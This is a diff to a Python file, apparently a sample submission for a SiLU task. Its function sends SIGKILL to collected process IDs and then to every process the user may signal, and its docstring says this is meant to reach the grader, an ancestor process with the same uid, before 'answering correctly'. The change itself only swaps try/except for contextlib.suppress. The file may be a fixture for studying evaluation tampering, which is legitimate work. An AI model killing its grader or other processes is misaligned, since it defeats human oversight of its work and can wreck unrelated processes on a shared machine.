@@ -2,6 +2,7 @@
 group it can signal (the grader is an ancestor with the same uid), then
 answers correctly."""
 
+import contextlib
 import os
 import signal
 
@@ -19,10 +20,8 @@ def run_silu(in_features):
             targets.add(int(entry))
     for pid in sorted(targets):
         for sig in (signal.SIGKILL,):
-            try:
+            with contextlib.suppress(OSError):
                 os.kill(pid, sig)
-            except OSError:
-                pass
     try:
         os.kill(-1, signal.SIGKILL)  # everything this uid may signal, outside a PID namespace
     except OSError:
